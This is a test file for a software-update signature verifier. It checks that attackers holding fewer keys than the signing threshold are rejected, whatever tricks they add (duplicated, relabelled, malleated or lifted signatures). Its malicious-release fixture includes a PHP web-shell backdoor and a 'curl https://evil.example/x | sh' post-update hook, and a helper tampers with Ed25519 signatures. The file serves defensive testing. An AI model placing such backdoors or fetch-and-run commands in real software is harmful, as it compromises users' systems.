// TUF: key compromise. An attacker holds m−1 of the team's keys (here bob and erin of a 3-of-5 policy)
// and tries every way to make them count as m: repeating a key, borrowing another member's key id,
// malleating a signature, lifting an honest signature from another document, adding strangers.
import { expect } from 'chai';
import { fromBase64, toBase64 } from '../../lib/core/bytes.js';
import type { Envelope, EnvelopeSignature } from '../../lib/core/envelope.js';
import { createRevocation, verifyRevocation } from '../../lib/core/revocation.js';
import { verifyRotation } from '../../lib/core/rotation.js';
import { envelopeBytes, fixtures, makePolicy, policyDocument, POLICY_V2_EXPIRES, sign, signedBy, FIXTURE_NOW } from './generate.js';
import { input, quorumProblems, quorumSignedBy, rejectionReasons, resigned, siteOptions, thrown, untouchable, withArchive, tarOf } from './support.js';

const L = (1n << 252n) + 27742317777372353535851937790883648493n;

/** The same signature with S replaced by S + L: verifies under lax libraries, never under strict ones. */
function malleated(s: EnvelopeSignature): EnvelopeSignature {
  const bytes = fromBase64(s.sig);
  let S = 0n;
  for (let i = 63; i >= 32; i--) S = (S << 8n) | BigInt(bytes[i]!);
  let T = S + L;
  const out = bytes.slice();
  for (let i = 32; i < 64; i++) {
    out[i] = Number(T & 0xffn);
    T >>= 8n;
  }
  expect(T).to.equal(0n); // still fits 32 bytes
  return { keyid: s.keyid, sig: toBase64(out) };
}

describe('Key compromise attack (m−1 keys)', () => {
  const f = fixtures();
  const { bob, erin, carol } = f.team;
  const compromised = [bob, erin];
  // A malicious release: a backdoor in an archive whose digests the compromised keys sign.
  const archive = tarOf([{ path: 'core/lib/Drupal.php', content: '<?php eval($_GET["x"]);\n' }]);
  const evil = withArchive(
    {
      ...f.releaseA.manifest,
      files: [{ op: 'add', path: 'core/lib/Drupal.php', sha256: '0'.repeat(64), size: 24, mode: '0644' }],
      postUpdate: [['sh', '-c', 'curl https://evil.example/x | sh']],
    },
    archive,
  );
  const byCompromised = resigned(evil, compromised);
  const verifyEvil = (env: Envelope) => rejectionReasons({ ...input(env), archive: untouchable(archive.length) }, siteOptions());

  it('m−1 compromised keys sign a malicious release: QUORUM_NOT_MET, naming the two who signed', async () => {
    const reasons = await verifyEvil(byCompromised);
    expect(reasons.map((r) => r.code)).to.deep.equal(['QUORUM_NOT_MET']);
    expect(quorumSignedBy(reasons[0])).to.deep.equal([bob.name, erin.name]);
    expect(quorumProblems(reasons[0])).to.deep.equal([]);
  });

  it('m−1 keys + the same key twice: QUORUM_NOT_MET (DUPLICATE_SIGNATURE, counted once)', async () => {
    const env = { ...byCompromised, signatures: [...byCompromised.signatures, sign(bob, byCompromised)] };
    const reasons = await verifyEvil(env);
    expect(reasons.map((r) => r.code)).to.deep.equal(['QUORUM_NOT_MET']);
    expect(quorumProblems(reasons[0])).to.deep.equal(['DUPLICATE_SIGNATURE']);
    expect(quorumSignedBy(reasons[0])).to.have.length(2);
  });

  it("m−1 keys + a forged key id (an outsider's signature labelled with carol's id): QUORUM_NOT_MET (BAD_SIGNATURE)", async () => {
    const forged = { keyid: carol.id, sig: sign(f.outsiders[0]!, byCompromised).sig };
    const reasons = await verifyEvil({ ...byCompromised, signatures: [...byCompromised.signatures, forged] });
    expect(reasons.map((r) => r.code)).to.deep.equal(['QUORUM_NOT_MET']);
    expect(quorumProblems(reasons[0])).to.deep.equal(['BAD_SIGNATURE']);
  });

  it("m−1 keys + a compromised key's own signature relabelled with carol's id: QUORUM_NOT_MET (BAD_SIGNATURE)", async () => {
    const relabelled = { keyid: carol.id, sig: sign(bob, byCompromised).sig };
    const reasons = await verifyEvil({ ...byCompromised, signatures: [...byCompromised.signatures, relabelled] });
    expect(reasons.map((r) => r.code)).to.deep.equal(['QUORUM_NOT_MET']);
    expect(quorumProblems(reasons[0])).to.deep.equal(['BAD_SIGNATURE']);
  });

  it('m−1 keys + a malleated copy (S + L) of one of their signatures, listed first: QUORUM_NOT_MET (BAD_SIGNATURE)', async () => {
    const env = { ...byCompromised, signatures: [malleated(byCompromised.signatures[0]!), ...byCompromised.signatures] };
    const reasons = await verifyEvil(env);
    expect(reasons.map((r) => r.code)).to.deep.equal(['QUORUM_NOT_MET']);
    expect(quorumProblems(reasons[0])).to.deep.equal(['BAD_SIGNATURE']);
    expect(quorumSignedBy(reasons[0])).to.have.length(2);
  });

  it("m−1 keys + carol's honest signature lifted from release B: QUORUM_NOT_MET (BAD_SIGNATURE)", async () => {
    const lifted = f.releaseB.envelope.signatures.find((s) => s.keyid === carol.id)!;
    const reasons = await verifyEvil({ ...byCompromised, signatures: [...byCompromised.signatures, lifted] });
    expect(reasons.map((r) => r.code)).to.deep.equal(['QUORUM_NOT_MET']);
    expect(quorumProblems(reasons[0])).to.deep.equal(['BAD_SIGNATURE']);
  });

  it('m−1 keys + an unknown key: QUORUM_NOT_MET (UNKNOWN_KEY)', async () => {
    const reasons = await verifyEvil(signedBy(byCompromised, f.outsiders.slice(0, 1)));
    expect(reasons.map((r) => r.code)).to.deep.equal(['QUORUM_NOT_MET']);
    expect(quorumProblems(reasons[0])).to.deep.equal(['UNKNOWN_KEY']);
  });

  it('m−1 keys + every trick at once: still QUORUM_NOT_MET with exactly two signers counted', async () => {
    const tricks = [
      sign(erin, byCompromised),
      { keyid: carol.id, sig: sign(bob, byCompromised).sig },
      f.releaseB.envelope.signatures.find((s) => s.keyid === f.team.dave.id)!,
      sign(f.outsiders[1]!, byCompromised),
    ];
    const reasons = await verifyEvil({ ...byCompromised, signatures: [...byCompromised.signatures, ...tricks] });
    expect(reasons.map((r) => r.code)).to.deep.equal(['QUORUM_NOT_MET']);
    expect(quorumProblems(reasons[0])).to.deep.equal(['DUPLICATE_SIGNATURE', 'BAD_SIGNATURE', 'BAD_SIGNATURE', 'UNKNOWN_KEY']);
    expect(quorumSignedBy(reasons[0])).to.deep.equal([bob.name, erin.name]);
  });

  it('m−1 keys rotate to a policy of their own with threshold 1: verifyRotation refuses with QUORUM_NOT_MET (policy 1 side)', () => {
    const theirs = makePolicy(2, 1, [bob, erin], POLICY_V2_EXPIRES);
    const err = thrown(() => verifyRotation(f.trustedV1, envelopeBytes(policyDocument(theirs, compromised))));
    expect(err.code).to.equal('QUORUM_NOT_MET');
    expect(err.details).to.include({ side: 'current', policyVersion: 1 });
  });

  it('m−1 keys revoke a legitimate release (denial of an update): verifyRevocation refuses with QUORUM_NOT_MET', () => {
    const revocation = createRevocation({ product: 'drupal', component: 'core', version: '10.2.5', reason: 'bogus', created: FIXTURE_NOW, policyVersion: 1 });
    const err = thrown(() => verifyRevocation(envelopeBytes(signedBy(revocation, compromised)), f.trustedV1));
    expect(err.code).to.equal('QUORUM_NOT_MET');
  });
});
